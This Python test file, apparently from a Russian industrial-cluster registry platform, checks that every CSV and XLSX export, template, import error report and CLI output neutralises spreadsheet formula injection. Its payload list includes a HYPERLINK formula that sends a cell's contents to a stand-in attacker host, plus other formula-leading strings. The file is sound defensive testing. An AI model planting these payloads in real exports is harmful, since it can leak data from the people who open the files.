"""Formula injection (issue 16, item 8): every CSV and XLSX the platform writes keeps a text that
starts like a formula (``= + - @``, tab, CR) as text — CSV cells get a leading apostrophe, XLSX
cells are typed strings with Excel's quote prefix — numbers stay numbers, our own exports import
back unchanged, and no module but ``sheets.py`` can write such a file."""

import ast
import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from factories import inn10
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from sqlalchemy import select, update
from typer.testing import CliRunner

from promcluster import sheets
from promcluster.auth.audit import Actor
from promcluster.chains.models import Chain
from promcluster.cli import app as cli
from promcluster.imports import exports
from promcluster.imports.service import run_import
from promcluster.matching.models import Need
from promcluster.registry.models import (
    Cluster,
    Enterprise,
    EnterpriseFigure,
    InvestmentProject,
    Membership,
    ProductLine,
    Supply,
)

from .kit import finished_run

API = "/api/v1"
SRC = Path(__file__).resolve().parents[2] / "src" / "promcluster"
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# What the importer's text normalisation keeps as it is (it trims leading whitespace anyway).
KEPT = (*PAYLOADS[:4], "'=1", "''@x")
OKPD = "23.61.11"
NUMBER = re.compile(r"-\d+(?:[.,]\d+)?(?:e-?\d+)?")  # a number cell: not a formula


# Reading what was written


def csv_rows(content: bytes, delimiter: str = ";") -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_csv_safe(rows: list[list[str]], carried=PAYLOADS) -> None:
    """No cell starts a formula; each planted payload is there, neutralised."""
    cells = [c for row in rows for c in row]
    assert cells, "empty file"
    assert [c for c in cells if c.startswith(DANGEROUS) and not NUMBER.fullmatch(c)] == []
    for payload in carried:
        assert "'" + payload in cells, payload


def xlsx_cells(content: bytes | Path) -> list:
    source = io.BytesIO(content) if isinstance(content, bytes) else content
    book = load_workbook(source)
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def assert_xlsx_safe(content: bytes | Path, carried=PAYLOADS) -> None:
    """No cell is a formula; a formula-like text is a quote-prefixed string, value unchanged."""
    cells = xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(DANGEROUS):
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
    # A CR is written as Excel writes it, ``_x000D_`` (openpyxl does not decode it); a bare CR
    # (in a file openpyxl wrote) reads back as LF.
    values = {unescape(c.value).replace("\n", "\r") for c in cells if isinstance(c.value, str)}
    for payload in carried:
        assert payload in values, payload


# Data with the payloads in every text field an export carries


def plant(db) -> list[int]:
    """One enterprise, cluster, membership, chain, project, product, supply, need and figure per
    payload, every text field holding it; returns the enterprises' ids."""
    ids = []
    with db.session() as s:
        for i, p in enumerate(PAYLOADS):
            unit = p[:30]  # a unit holds 30 characters
            e = Enterprise(
                inn=inn10(f"72090{i:04d}"), name=p, full_name=p, region_code="72", address=p,
                website=p, email=p, phone=p, description=p, search_text="",
            )  # fmt: skip
            owner = Enterprise(inn=inn10(f"72091{i:04d}"), name=p, region_code="72")
            c = Cluster(
                name=p, registry_number=p, description=p, search_text="", status="initiative"
            )
            s.add_all([e, owner, c])
            s.flush()
            c.specialised_org_id = owner.id
            chain = Chain(cluster_id=c.id, name=p, description=p, position=1)
            s.add_all([Membership(cluster_id=c.id, enterprise_id=e.id, status="member", note=p),
                       chain])  # fmt: skip
            s.flush()
            s.add_all([
                InvestmentProject(cluster_id=c.id, name=p, description=p, chain_id=chain.id,
                                  initiator_id=e.id, amount=-5),
                ProductLine(enterprise_id=e.id, okpd2_code=OKPD, direction="produces", name=p,
                            unit=unit),
                ProductLine(enterprise_id=e.id, okpd2_code=OKPD, direction="produces", name=p,
                            registry_number=p[:50], tnved_code=p[:100]),  # a ГИСП entry
                Supply(supplier_id=e.id, buyer_id=owner.id, okpd2_code=OKPD, year=2024, unit=unit),
                Need(customer_id=e.id, region_code="72", product_name=p, unit=unit, description=p),
                Need(customer_name=p, region_code="72", product_name=p + " (внешний)"),
                EnterpriseFigure(enterprise_id=e.id, year=2024, employees=5),
            ])  # fmt: skip
            ids.append(e.id)
    return ids


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", exports.EXPORT_KINDS)
def test_every_registry_export_keeps_planted_formulas_as_text(admin_client, db, kind, fmt):
    plant(db)
    response = admin_client.get(f"{API}/export/{kind}.{fmt}")
    assert response.status_code == 200, response.text
    if fmt == "csv":
        assert_csv_safe(csv_rows(response.content))
    else:
        assert_xlsx_safe(response.content)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_public_enterprise_export_is_safe_for_anyone(client, db, fmt):
    plant(db)
    response = client.get(f"{API}/export/enterprises.{fmt}")  # anonymous
    assert response.status_code == 200
    if fmt == "csv":
        rows = csv_rows(response.content)
        assert_csv_safe(rows)
        names = [dict(zip(rows[0], r, strict=True))["Наименование"] for r in rows[1:]]
        assert set(map(sheets.restored, names)) == set(PAYLOADS)
    else:
        assert_xlsx_safe(response.content)


def test_numbers_stay_numbers_and_dates_stay_dates(admin_client, db):
    plant(db)
    header, *rows = csv_rows(admin_client.get(f"{API}/export/projects.csv").content)
    amount = header.index("Сумма инвестиций, руб.")
    assert {r[amount] for r in rows} == {"-5"}  # a number: not neutralised
    book = load_workbook(io.BytesIO(admin_client.get(f"{API}/export/projects.xlsx").content))
    cells = [book.worksheets[0].cell(r, amount + 1) for r in range(2, 2 + len(PAYLOADS))]
    assert {(c.value, c.data_type) for c in cells} == {(-5, "n")}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_templates_are_safe(client, fmt):
    for kind in (name for name, kind in exports.KINDS.items() if not kind.documents):
        response = client.get(f"{API}/templates/{kind}.{fmt}")
        assert response.status_code == 200
        if fmt == "csv":
            assert_csv_safe(csv_rows(response.content), carried=())
        else:
            assert_xlsx_safe(response.content, carried=())


def test_the_import_error_report_neutralises_rejected_values(admin_client, db, tmp_path):
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")  # the uploaded file, written by the "attacker"
    writer.writerow(["+ИНН", "Наименование", "Регион"])
    for p in PAYLOADS:
        writer.writerow([p, "ООО «Ромашка»", "72"])
    answer = admin_client.post(
        f"{API}/imports",
        data={"kind": "enterprises"},
        files={"file": ("bad.csv", out.getvalue().encode("utf-8"), "text/csv")},
    )
    assert answer.status_code == 202, answer.text
    run_id = answer.json()["id"]
    run = finished_run(admin_client, run_id)
    assert run["rejected"] == len(PAYLOADS)
    report = admin_client.get(f"{API}/imports/{run_id}/errors.csv")
    rows = csv_rows(report.content)
    assert_csv_safe(rows, carried=PAYLOADS[:4])  # the importer trims a leading tab or CR
    assert {r[1] for r in rows[1:]} == {"'+ИНН"}  # the file's own header is a cell too


def test_the_command_line_export_is_safe(db, tmp_path):
    plant(db)
    runner = CliRunner()
    for suffix in ("csv", "xlsx"):
        path = tmp_path / f"needs.{suffix}"
        result = runner.invoke(cli, ["export", "needs", "-o", str(path), "--database", db.url])
        assert result.exit_code == 0, result.output
        if suffix == "csv":
            assert_csv_safe(csv_rows(path.read_bytes()))
        else:
            assert_xlsx_safe(path)


# Round trip: our own export imports back unchanged


def _rename(db, names) -> None:
    with db.session() as s:
        ids = list(s.scalars(select(Enterprise.id).order_by(Enterprise.id)))
        for id_, name in zip(ids, names, strict=False):
            s.execute(update(Enterprise).where(Enterprise.id == id_).values(name=name))


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_exported_formula_like_values_import_back_unchanged(db, tmp_path, suffix):
    cluster = db.add_cluster(name=KEPT[0])
    for i, name in enumerate(KEPT):
        firm = db.add_enterprise(inn=inn10(f"72092{i:04d}"), name=f"Предприятие {i}")
        db.add_membership(cluster, firm, note=name)
    _rename(db, KEPT)
    for kind in ("enterprises", "members"):
        path = tmp_path / f"{kind}.{suffix}"
        with db.session() as session:
            exports.export(session, kind, path)
        run = run_import(db.sessions, kind, path, actor=Actor("test"))
        assert (run.rows_read, run.unchanged, run.rejected) == (len(KEPT),) * 2 + (0,), kind
    with db.sessions() as s:
        assert sorted(s.scalars(select(Enterprise.name))) == sorted(KEPT)
        assert sorted(s.scalars(select(Membership.note))) == sorted(KEPT)


# Domain workbooks and tables


def test_chain_graph_workbook_is_safe(client, db):
    from chains import build_cluster

    w = build_cluster(db)
    _rename(db, PAYLOADS)
    response = client.get(f"{API}/clusters/{w.cluster}/graph.xlsx", params={"year": 2023})
    assert response.status_code == 200
    names = {c.value for c in xlsx_cells(response.content)}
    assert_xlsx_safe(response.content, carried=[p for p in PAYLOADS if p in names])
    assert len(names & set(PAYLOADS)) >= 2  # the members that were renamed


def test_compliance_workbook_is_safe(client, db):
    from compliance.kit import TRADE, Builder

    build = Builder(db)
    cluster = build.cluster(name=PAYLOADS[0])
    build.members(cluster, 3)
    trader = build.member(cluster, okved=TRADE)
    with db.session() as s:
        s.execute(update(Enterprise).where(Enterprise.id == trader).values(name=PAYLOADS[1]))
    build.tick(cluster, "C5", "application", PAYLOADS[2])
    response = client.get(f"/clusters/{cluster}/compliance.xlsx", params={"as_of": "2024-06-01"})
    assert response.status_code == 200
    assert_xlsx_safe(response.content, carried=PAYLOADS[1:3])


def test_ratings_downloads_are_safe(client, db):
    from indicators import AS_OF, build_world

    world = build_world(db)
    with db.session() as s:
        s.execute(update(Cluster).where(Cluster.id == world.cluster).values(name=PAYLOADS[0]))
    answer = client.get("/ratings/export.csv", params={"as_of": AS_OF})
    assert_csv_safe(csv_rows(answer.content, ","), carried=PAYLOADS[:1])
    answer = client.get("/ratings/export.xlsx", params={"indicator": "employees", "as_of": AS_OF})
    assert_xlsx_safe(answer.content, carried=PAYLOADS[:1])


def test_niche_workbooks_and_the_niches_command_are_safe(client, db, tmp_path):
    from niches import CONCRETE, REGION, build_world

    build_world(db)
    with db.session() as s:
        ids = list(s.scalars(select(Enterprise.id).order_by(Enterprise.id)))
        for i, id_ in enumerate(ids):
            name = PAYLOADS[i % len(PAYLOADS)]
            s.execute(update(Enterprise).where(Enterprise.id == id_).values(name=name))
    passport = client.get(f"{API}/niches/{REGION}/{CONCRETE}/passport.xlsx")
    assert passport.status_code == 200, passport.text
    names = {c.value for c in xlsx_cells(passport.content)}
    assert names & set(PAYLOADS)
    assert_xlsx_safe(passport.content, carried=[p for p in PAYLOADS if p in names])
    ranking = client.get(f"{API}/niches/export.xlsx", params={"region": REGION})
    assert_xlsx_safe(ranking.content, carried=())
    path = tmp_path / "niches.csv"
    result = CliRunner().invoke(cli, ["niches", REGION, "-o", str(path), "--database", db.url])
    assert result.exit_code == 0, result.output
    assert_csv_safe(csv_rows(path.read_bytes(), ","), carried=())


# The writer itself


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1", "'=1"), ("+7 (3452) 12-34-56", "'+7 (3452) 12-34-56"), ("-5", "-5"),
        ("+7", "+7"), ("-2,5", "-2,5"), ("'-5", "'-5"), ("-2+3", "'-2+3"), ("-1e5", "'-1e5"),
        ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"), ("''@", "'''@"),
        ("'text", "'text"), ("'", "'"), ("", ""), ("ООО «Ромашка»", "ООО «Ромашка»"),
        ("a=1", "a=1"), (" =1", " =1"),
    ],
)  # fmt: skip
def test_neutralised_is_exactly_undone_by_restored(text, written):
    assert sheets.neutralised(text) == written
    assert sheets.restored(written) == text


def test_sheets_write_text_as_text_and_numbers_as_numbers(tmp_path):
    row = [*PAYLOADS, "#N/A", "bell\x07", -5, -2.5, date(2024, 1, 31), True, ["=a", "b"]]
    headers = [f"c{i}" for i in range(len(row))]
    for plain in (False, True):
        path = tmp_path / f"t{plain}.csv"
        sheets.write_csv(path, headers, iter([row]), plain=plain)
        [_, cells] = csv_rows(path.read_bytes(), "," if plain else ";")
        assert [c for c in cells if c.startswith(DANGEROUS)] == (["-5", "-2.5"] if plain else
                                                               ["-5", "-2,5"])  # fmt: skip
        assert cells[-1] == "'=a; b"
    sheets.write_xlsx(tmp_path / "t.xlsx", headers, iter([row]), "Лист", notes=[["=note"]])
    book = Path(tmp_path / "t.xlsx")
    assert_xlsx_safe(book)
    cells = load_workbook(book).worksheets[0][2]
    assert [(c.value, c.data_type) for c in cells[6:10]] == [
        ("#N/A", "s"), ("bell", "s"), (-5, "n"), (-2.5, "n")
    ]  # fmt: skip
    assert cells[10].is_date and cells[10].number_format == sheets.DATE_FORMAT


def test_a_book_types_even_cells_set_directly(tmp_path):
    book = sheets.Book()
    sheet = book.table("Таблица", ["Имя"], [[p] for p in PAYLOADS])
    sheet["B1"] = "=1+1"  # not through the writer: still saved as text
    book.save(tmp_path / "b.xlsx")
    assert_xlsx_safe(tmp_path / "b.xlsx", carried=(*PAYLOADS, "=1+1"))


# The class of defect made impossible: one writer


def _writers(tree: ast.AST) -> list[str]:
    """CSV writers and openpyxl workbooks or cells a module makes by itself."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            names = {a.name for a in node.names}
            if node.module == "csv" and names & {"writer", "DictWriter"}:
                found.append(f"from csv import {names}")
            harmless = node.module.startswith(("openpyxl.styles", "openpyxl.utils"))
            if node.module.startswith("openpyxl") and not harmless and names - {"load_workbook"}:
                found.append(f"from {node.module} import {names}")
            if node.module.startswith("xlsxwriter"):
                found.append(f"from {node.module} import {names}")
        elif isinstance(node, ast.Import):
            writers = ("openpyxl", "xlsxwriter")
            found += [f"import {a.name}" for a in node.names if a.name.startswith(writers)]
        elif isinstance(node, ast.Attribute):
            owner = node.value.id if isinstance(node.value, ast.Name) else ""
            if owner == "csv" and node.attr in ("writer", "DictWriter"):
                found.append(f"csv.{node.attr}")
            if node.attr in ("to_csv", "to_excel", "write_excel") or (
                node.attr == "write_csv" and owner != "sheets"
            ):
                found.append(f"{owner}.{node.attr}")
    return found


def test_only_the_sheets_module_writes_csv_or_xlsx():
    offenders = {}
    for path in sorted(SRC.rglob("*.py")):
        if path == SRC / "sheets.py":
            continue
        if found := _writers(ast.parse(path.read_text(encoding="utf-8"))):
            offenders[str(path.relative_to(SRC))] = found
    assert offenders == {}, "write CSV and XLSX through promcluster.sheets"


def test_the_check_catches_a_writer_of_its_own():
    module = "import csv\nfrom openpyxl import Workbook\nw = csv.writer(f)\ndf.write_excel(p)\n"
    assert len(_writers(ast.parse(module))) == 3
    assert len(_writers(ast.parse("import xlsxwriter\nfrom xlsxwriter import Workbook\n"))) == 2
